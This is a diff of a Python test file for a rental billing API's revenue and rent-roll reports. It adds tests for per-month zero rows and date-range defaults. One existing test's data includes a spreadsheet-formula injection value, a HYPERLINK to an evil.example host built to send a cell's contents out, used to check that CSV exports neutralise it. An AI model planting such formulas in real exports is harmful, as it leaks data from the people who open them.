@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import timedelta
+from datetime import UTC, date, datetime, timedelta
 
 from billing.rules import anniversary
 from jeshkit.clock import nairobi_today
@@ -57,7 +57,7 @@ def test_rent_roll_aging_and_revenue_add_up(start_billing):
                                          "to": today.isoformat()}).json()["data"]
     collected = 3000 + 5000 + 7000 + paid["balance"]
     assert revenue["totals"] == {"collected": collected, "refunds": 1200, "net": collected - 1200}
-    card = [r for r in revenue["rows"] if r["method"] == "card"]
+    card = [r for r in revenue["rows"] if r["method"] == "card" and r["net"]]  # (yesterday: last month's, zeros)
     assert [(r["collected"], r["refunds"]) for r in card] == [(paid["balance"], 0)]
     assert sum(r["net"] for r in revenue["rows"]) == revenue["totals"]["net"]
 
@@ -109,3 +109,60 @@ def test_the_csv_reports_never_hand_a_spreadsheet_a_formula(start_billing):
     [json_row] = billing.client.get("/api/billing/reports/rent-roll", headers=billing.admin).json()["data"]
     assert (json_row["tenant_name"], json_row["unit_number"]) == (
         '=HYPERLINK("http://evil.example/?"&A1,"Pay here")', "@SUM(1+1)")
+
+
+def test_the_revenue_report_has_every_month_of_its_range_with_zeros_where_nothing_moved(start_billing):
+    """A chart or a spreadsheet of the report skips no month: each month of the range has a row for each method money
+    moved by in the range, zeros where it did not."""
+    billing = start_billing()
+    billing.pay(81, 2000, paid_at=datetime(2025, 1, 15, 9, tzinfo=UTC))
+    billing.pay(82, 3000, method="card", paid_at=datetime(2025, 3, 3, 9, tzinfo=UTC))
+    billing.pay(83, 4000, paid_at=datetime(2025, 6, 1, 9, tzinfo=UTC))  # after the range
+
+    def revenue(**params: str) -> dict:
+        r = billing.client.get("/api/billing/reports/revenue", headers=billing.admin, params=params)
+        assert r.status_code == 200, r.text
+        return dict(r.json()["data"])
+
+    report = revenue(**{"from": "2024-12-20", "to": "2025-04-30"})
+    assert [(r["month"], r["method"], r["collected"], r["refunds"], r["net"]) for r in report["rows"]] == [
+        ("2024-12", "card", 0, 0, 0), ("2024-12", "mpesa", 0, 0, 0),
+        ("2025-01", "card", 0, 0, 0), ("2025-01", "mpesa", 2000, 0, 2000),
+        ("2025-02", "card", 0, 0, 0), ("2025-02", "mpesa", 0, 0, 0),
+        ("2025-03", "card", 3000, 0, 3000), ("2025-03", "mpesa", 0, 0, 0),
+        ("2025-04", "card", 0, 0, 0), ("2025-04", "mpesa", 0, 0, 0),
+    ]
+    assert report["totals"] == {"collected": 5000, "refunds": 0, "net": 5000}
+    text = billing.client.get("/api/billing/reports/revenue", headers=billing.admin,
+                              params={"from": "2024-12-20", "to": "2025-04-30", "format": "csv"}).text
+    table = list(csv.DictReader(io.StringIO(text)))
+    assert [(r["month"], r["method"], r["net"]) for r in table] == [
+        (r["month"], r["method"], str(r["net"])) for r in report["rows"]]
+
+    # No money at all in the range: still a row of zeros per month.
+    empty = revenue(**{"from": "2023-02-10", "to": "2023-04-01"})
+    assert [(r["month"], r["method"], r["net"]) for r in empty["rows"]] == [
+        ("2023-02", "mpesa", 0), ("2023-03", "mpesa", 0), ("2023-04", "mpesa", 0)]
+    # One day: its month.
+    assert [r["month"] for r in revenue(**{"from": "2025-03-03", "to": "2025-03-03"})["rows"]] == ["2025-03"]
+
+
+def test_the_revenue_report_s_from_defaults_to_a_year_before_its_to(start_billing):
+    """`to` alone (the revenue up to a day) is a year up to it, not a 400 for a `to` before the default `from`."""
+    billing = start_billing()
+    billing.pay(84, 2500, paid_at=datetime(2025, 1, 15, 9, tzinfo=UTC))
+    r = billing.client.get("/api/billing/reports/revenue", headers=billing.admin, params={"to": "2025-06-30"})
+    assert r.status_code == 200, r.text
+    report = r.json()["data"]
+    assert (report["from"], report["to"]) == ((date(2025, 6, 30) - timedelta(days=365)).isoformat(), "2025-06-30")
+    assert report["totals"]["collected"] == 2500 and len(report["rows"]) == 13
+    # The earliest day a date can name: no 500.
+    early = billing.client.get("/api/billing/reports/revenue", headers=billing.admin, params={"to": "0001-03-01"})
+    assert early.status_code == 200 and early.json()["data"]["from"] == "0001-01-01"
+    # A range of more months than a report holds: 400, field to.
+    wide = billing.client.get("/api/billing/reports/revenue", headers=billing.admin,
+                              params={"from": "0001-01-01", "to": "9999-12-31"})
+    assert wide.status_code == 400 and wide.json()["errors"][0]["field"] == "to"
+    hundred_years = billing.client.get("/api/billing/reports/revenue", headers=billing.admin,
+                                       params={"from": "2000-01-01", "to": "2099-12-31"})
+    assert hundred_years.status_code == 200 and len(hundred_years.json()["data"]["rows"]) == 1200
